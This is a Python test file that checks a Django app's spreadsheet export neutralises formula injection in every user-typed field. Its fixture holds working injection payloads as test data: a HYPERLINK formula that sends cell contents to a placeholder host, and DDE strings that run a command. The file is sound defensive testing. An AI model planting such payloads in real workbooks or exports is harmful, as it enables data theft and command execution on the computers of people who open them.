"""Formula injection: what users typed reaches the auditor's workbook as text, on every sheet, never as a
live formula (core.spreadsheets)."""

import io

import pytest
from openpyxl import load_workbook

from django.contrib.auth import get_user_model

from audit.services import audit_record
from compliance.models import AccountabilityDocument, DocumentType, FraudSignal
from compliance.reports.services import export_request
from contracting.models import Agreement, ContractingAuthority, CostModel, Procedure, Product, Provider, Unit
from core import clock
from tests import factories
from tests.compliance.reports.world import build_world

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&A2,"Bekijk")'
# sheet -> the hostile texts that must be found in it, as typed
HOSTILE = {
    "Providers": [HYPERLINK, "+31 6 12345678", "-2+3 Holding"],
    "Agreements": ["@SUM(1+1)", HYPERLINK, "=1+2 BA", "\t=1+1 beëindigd"],
    "Condition matrix": [HYPERLINK],
    "Documents": [HYPERLINK, "=2+3 beleid", "@reviewer"],
    "Fraud signals": [HYPERLINK, "+cmd|' /C calc'!A0"],
    "Tariffs": ["=cmd|' /C calc'!A0", "@uur", "-Cao Sociaal Werk"],
    "Transition log": ["@reviewer", "@SUM(1+1)", "\r=1+1 ingetrokken", HYPERLINK],
    "Export": ["=AUTHORITY()", "-auditor"],
}


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)


@pytest.fixture
def hostile_workbook(officer):
    """The report world with hostile text in every place a user types into, exported as a workbook."""
    world = build_world(officer)
    provider = world.provider
    parent = factories.ProviderFactory(name="-2+3 Holding")
    Provider.objects.filter(pk=provider.pk).update(name=HYPERLINK, city="+31 6 12345678", parent=parent)
    Agreement.objects.filter(pk=world.agreement.pk).update(reference="@SUM(1+1)")
    Agreement.objects.filter(pk=world.agreement.pk).update(termination_reason="\t=1+1 beëindigd")
    Procedure.objects.filter(pk=world.procedure.pk).update(reference="=1+2 BA")
    DocumentType.objects.filter(pk=world.document.document_type_id).update(name="=2+3 beleid")
    reviewer = get_user_model().objects.filter(pk=officer.pk)
    reviewer.update(username="@reviewer")
    AccountabilityDocument.objects.filter(pk=world.document.pk).update(reviewed_by=officer)
    FraudSignal.objects.filter(pk=world.signal.pk).update(explanation="+cmd|' /C calc'!A0")
    product = Product.objects.get(lots__procedure=world.procedure)
    Product.objects.filter(pk=product.pk).update(name="=cmd|' /C calc'!A0")
    Unit.objects.filter(pk=product.unit_id).update(name="@uur")
    CostModel.objects.filter(product=product).update(cao="-Cao Sociaal Werk")
    ContractingAuthority.objects.filter(pk=world.authority.pk).update(name="=AUTHORITY()")
    world.agreement.refresh_from_db()
    reviewer = reviewer.get()
    audit_record(
        actor=reviewer, event="agreement.checked", subject=world.agreement, reason="\r=1+1 ingetrokken"
    )
    provider.refresh_from_db()
    audit_record(actor=reviewer, event="provider.checked", subject=provider, reason=HYPERLINK)
    maker = factories.auditor(username="-auditor")
    year = clock.today().year
    export = export_request(
        kind="workbook",
        parameters={
            "authority": str(world.authority.uuid),
            "period_start": f"{year}-01-01",
            "period_end": f"{year}-12-31",
            "language": "en",
        },
        actor=maker,
        background=False,
    )
    with export.file.open("rb") as handle:
        return load_workbook(io.BytesIO(handle.read()))


def test_no_cell_of_any_sheet_is_a_formula(hostile_workbook):
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in hostile_workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


@pytest.mark.parametrize("sheet", HOSTILE)
def test_hostile_text_reads_back_as_typed_and_is_shown_as_text(hostile_workbook, sheet):
    # given
    cells = {}
    for row in hostile_workbook[sheet].iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cells.setdefault(cell.value, cell)
    # then
    for text in HOSTILE[sheet]:
        text = text.replace("\r", "\n")  # XML keeps a carriage return in a text as a line feed
        assert text in cells, (sheet, text, sorted(cells))
        cell = cells[text]
        assert cell.data_type == "s", (sheet, text)
        assert cell.quotePrefix, (sheet, text)  # Excel and LibreOffice show it as text, also when edited


def test_numbers_and_dates_stay_excel_types(hostile_workbook):
    agreements = hostile_workbook["Agreements"]
    headers = [c.value for c in agreements[1]]
    row = agreements[2]
    assert row[headers.index("Start date")].is_date
    assert row[headers.index("Maximum extensions")].data_type == "n"
    tariffs = hostile_workbook["Tariffs"]
    headers = [c.value for c in tariffs[1]]
    assert tariffs[2][headers.index("Tariff per unit")].data_type == "n"


def test_plain_text_has_no_quote_prefix(hostile_workbook):
    matrix = hostile_workbook["Condition matrix"]
    assert matrix["A1"].value == "Provider" and not matrix["A1"].quotePrefix
    assert not hostile_workbook["Documents"]["B2"].quotePrefix  # a KvK number, as text


def test_characters_xml_cannot_hold_do_not_break_the_export(officer, auditor):
    # given a reason with a bell and a vertical tab typed into it
    world = build_world(officer)
    audit_record(actor=officer, event="agreement.checked", subject=world.agreement, reason="a\x07b\x0b=c")
    # when
    export = export_request(
        kind="workbook",
        parameters={"authority": str(world.authority.uuid), "language": "en"},
        actor=auditor,
        background=False,
    )
    # then
    with export.file.open("rb") as handle:
        log = load_workbook(io.BytesIO(handle.read()))["Transition log"]
    reasons = [row[7] for row in log.iter_rows(min_row=2, values_only=True)]
    assert "a\ufffdb\ufffd=c" in reasons
